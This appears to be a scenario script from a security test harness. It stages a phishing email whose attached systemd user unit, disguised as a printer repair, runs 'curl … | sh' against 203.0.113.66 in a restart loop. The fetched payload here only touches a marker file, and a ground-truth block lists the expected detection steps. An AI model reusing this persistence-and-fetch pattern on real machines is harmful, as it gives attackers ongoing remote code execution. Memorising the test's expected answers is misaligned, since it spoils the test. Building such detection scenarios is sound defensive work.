title="A mailed systemd unit enabled by hand, its command stands in the unit"
what="clerk gets printer-fix.service as an attachment, saves it with Thunderbird to ~/.config/systemd/user as told, and enables it with systemctl --user enable --now. No script exists: ExecStart holds a line for bash which loops, fetches a line from 203.0.113.66 and gives it to sh."
host=ws3.example.org user=clerk daemons="cron dovecot" syslog_format=rfc5424
setup() {
  dovecot_config
  printf '#!/bin/sh\n: ok\ntouch "$HOME/.cache/.pf"\n' > "$base/out/www/pf"
  printf '[Unit]\nDescription=Printer spool repair\n[Service]\nType=simple\nExecStart=/bin/bash -c "sleep 1; curl -fsS http://203.0.113.66/pf | sh; sleep 600"\nRestart=always\n[Install]\nWantedBy=default.target\n' > "$base/out/printer-fix.service"
}
act() {
  user_manager clerk
  display_up
  small_talk 2
  mail_in --from helpdesk@example.com --to clerk@example.org --subject "Printing: repair for your desk" --source 203.0.113.25 --helo smtp.example.com --text "Save to .config/systemd/user, then: systemctl --user enable --now printer-fix\n" --attach "$base/out/printer-fix.service:text/plain"
  wait_log 'from=<helpdesk@example.com>'; sleep 1
  mkdir -p /home/clerk/.config/systemd; chown -R clerk: /home/clerk/.config
  thunderbird_save clerk printer-fix.service .config/systemd/user
  console_as clerk <<'L'
ls .config/systemd/user
systemctl --user daemon-reload
systemctl --user enable --now printer-fix
%sleep 3
lpstat -a
systemctl --user is-active printer-fix
L
  wait_file /home/clerk/.cache/.pf 10
  small_talk 1
  user_managers_down
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'delivered'
  file_step save 'thunderbird.*printer-fix.service' 'saved as a unit'
  exec_step enable 'systemctl --user enable --now printer-fix' 'enabled'
  exec_step execute 'bash -c sleep 1; curl' 'the service manager runs its line'
  net_step beacon 'curl 203.0.113.66:80' 'it fetches'
  file_step done 'touch .*clerk/.cache/.pf' 'what was fetched ran'
}
